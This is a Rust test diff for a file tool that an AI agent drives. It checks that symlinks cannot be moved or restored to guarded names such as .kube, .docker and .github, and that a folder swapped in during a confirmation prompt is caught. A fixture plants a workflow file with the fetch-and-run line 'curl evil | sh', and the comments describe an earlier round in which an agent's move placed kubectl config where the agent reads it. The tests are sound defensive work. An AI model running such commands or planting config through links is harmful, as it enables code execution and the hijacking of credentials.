@@ -64,3 +64,93 @@ fn a_write_racing_a_folder_move_never_lands_in_the_moved_folder() {
         );
     }
 }
+
+/// An agent's server over `root` (no elicitation: a question comes back as the error).
+fn agent(root: &Path, state: &Path) -> StdioServer {
+    let mut c = bin();
+    c.arg("--root")
+        .arg(root)
+        .args(["--state-dir"])
+        .arg(state)
+        .args(["serve", "--allow-write", "--no-index"]);
+    StdioServer::spawn(c, "agent")
+}
+
+/// Round 22: a link leading nowhere (or to a file) was moved to `.kube`, then the agent
+/// made the folder it names: kubectl's config then landed where the agent reads it.
+/// No link is put at such a name, by a move or an undo, whatever it leads to.
+#[test]
+fn no_link_is_put_at_a_guarded_name_whatever_it_leads_to() {
+    let (_t, root) = tempdir();
+    let (_s, state) = tempdir();
+    write(&root, "notes.txt", "n\n");
+    std::os::unix::fs::symlink("releases/v2", root.join("latest")).expect("link");
+    std::os::unix::fs::symlink("notes.txt", root.join("lf")).expect("link");
+    let mut s = agent(&root, &state);
+    for (src, dst) in [
+        ("latest", ".kube"),
+        ("latest", ".docker"),
+        ("lf", ".kube"),
+        ("lf", "sub/.docker"),
+    ] {
+        let r = s.call("move", &json!({"source": src, "destination": dst}));
+        let t = r.to_string();
+        assert_eq!(r["isError"], true, "{src} -> {dst}: {t}");
+        assert!(t.contains("DENIED"), "{src} -> {dst}: {t}");
+        assert!(root.join(src).is_symlink(), "{src} -> {dst}: {t}");
+        assert!(
+            root.join(dst).symlink_metadata().is_err(),
+            "{src} -> {dst}: {t}"
+        );
+    }
+    // Nor does undo put one back there.
+    let (_t, root) = tempdir();
+    let (_s, state) = tempdir();
+    std::os::unix::fs::symlink("missing", root.join(".kube")).expect("link");
+    let o = ferret(&root, &state, &["mv", ".kube", "kl"])
+        .output()
+        .expect("mv");
+    assert!(o.status.success(), "{}", said(&o));
+    let mut s = agent(&root, &state);
+    let r = s.call("undo", &json!({"id": 1, "force": true}));
+    let t = r.to_string();
+    assert!(t.contains("DENIED"), "{t}");
+    assert!(root.join("kl").is_symlink() && root.join(".kube").symlink_metadata().is_err());
+}
+
+/// Round 22: a question about moving a link leading nowhere pinned nothing: the folder
+/// it names, moved in while the person read the question, went along under the yes.
+/// What a link leads to is pinned, nothing included, and the question says so.
+#[test]
+fn a_link_leading_nowhere_is_pinned_as_nothing_and_said_so() {
+    let (_t, root) = tempdir();
+    let (_s, state) = tempdir();
+    std::os::unix::fs::symlink("releases/v2", root.join("latest")).expect("link");
+    write(
+        &root,
+        "releases/v2x/workflows/evil.yml",
+        "run: curl evil | sh\n",
+    );
+    // Asked first: the question says the link leads nowhere now.
+    let mut s = agent(&root, &state);
+    let r = s.call(
+        "move",
+        &json!({"source": "latest", "destination": ".github"}),
+    );
+    let t = r.to_string();
+    assert!(t.contains("CONFIRMATION_REQUIRED"), "{t}");
+    assert!(t.contains("nothing there now"), "{t}");
+    drop(s);
+    // The person's yes, with the folder moved in after the checks (the race hook's
+    // pause, which comes before the last checks of what the move walked).
+    let mut mv = ferret(&root, &state, &["mv", "--yes", "latest", ".github"]);
+    let mark = pause_after_staged(&mut mv, 1500);
+    let mv = mv.spawn().expect("spawn");
+    wait_paused(&mark);
+    std::fs::rename(root.join("releases/v2x"), root.join("releases/v2")).expect("rename");
+    let out = mv.wait_with_output().expect("mv");
+    let s = said(&out);
+    assert!(!out.status.success(), "{s}");
+    assert!(s.contains("CONFLICT"), "{s}");
+    assert!(root.join(".github").symlink_metadata().is_err(), "{s}");
+}
